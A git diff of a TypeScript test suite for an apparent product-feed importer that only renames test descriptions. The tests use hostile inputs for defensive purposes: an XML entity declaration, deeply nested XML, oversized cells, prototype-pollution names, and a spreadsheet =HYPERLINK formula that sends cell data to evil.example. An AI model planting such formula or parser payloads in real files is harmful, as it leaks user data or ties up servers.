@@ -26,7 +26,7 @@ async function fetchGtins(fixture: StoreUnderTest, channelId: string): Promise<s
   return (await fetchProducts(fixture, channelId)).map(({ gtin }) => gtin)
 }
 
-describe('unusable feed', () => {
+describe('feed that is rejected as a whole', () => {
   const deep = `<rss><channel>${ITEM}</item>${'<a>'.repeat(200_000)}`
   const columns = Array.from({ length: 10_000 }, (_, index) => `c${index}`).join(',')
 
@@ -39,11 +39,15 @@ describe('unusable feed', () => {
     ],
     ['10,000 columns', `${HEAD.trim()},${columns}\n${GOOD_ROW}`, '10004 columns'],
     ['XML cut off', `${RSS}<item>`, 'unclosed tag'],
-    ['XML nested deep', deep, 'more than 100 deep'],
+    ['XML nested too deeply', deep, 'more than 100 deep'],
     ['XML with U+0000', `${RSS}\u0000</channel></rss>`, 'U+0000'],
-    ['XML with a bomb', `<!DOCTYPE a [<!ENTITY b "c">]>${RSS}</channel></rss>`, 'document type'],
+    [
+      'XML with an entity declaration',
+      `<!DOCTYPE a [<!ENTITY b "c">]>${RSS}</channel></rss>`,
+      'document type',
+    ],
     ['zip', 'PK\u0003\u0004x', 'unpack it first'],
-    ['none that is known', 'hello', 'is not recognised'],
+    ['unknown format', 'hello', 'is not recognised'],
     [
       'no usable row',
       `${HEAD}00000000000018,T,https://shop.example/,1 EUR\n`,
@@ -84,8 +88,8 @@ describe('feed with hostile cells', () => {
     ['commas and white space', ' ,'.repeat(100_000)],
     ['digits', '1'.repeat(200_000)],
     ['groups of digits', '1,111 '.repeat(30_000)],
-    ['beginnings of tags', '<a '.repeat(60_000)],
-    ['beginnings of entities', '&#1'.repeat(60_000)],
+    ['unfinished tags', '<a '.repeat(60_000)],
+    ['unfinished entities', '&#1'.repeat(60_000)],
     ['hyphens', '-'.repeat(200_000)],
   ])('%s - 200 kB, in every column - takes no longer than harmless text', async (_, piece) => {
     const startedAtMs = performance.now()
@@ -107,7 +111,7 @@ describe('feed with hostile cells', () => {
     expect(performance.now() - startedAtMs).toBeLessThan(60_000)
   })
 
-  it('formulas, markup and commands in every cell - are imported as text', async () => {
+  it('formulas, markup and commands - in every cell - are imported as plain text', async () => {
     const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
     const fixture = await openTestStore()
     const summary = await importText(
@@ -120,7 +124,7 @@ describe('feed with hostile cells', () => {
     ])
   })
 
-  it('JavaScript property names as columns and elements - are ordinary names', async () => {
+  it('names of JavaScript properties - as columns and elements - have no special meaning', async () => {
     const names = '__proto__,constructor,toString'
     const table = await readFeedText(`${names},${HEAD}a,b,c,${GOOD_ROW}`)
     expect(table.products).toHaveLength(1)
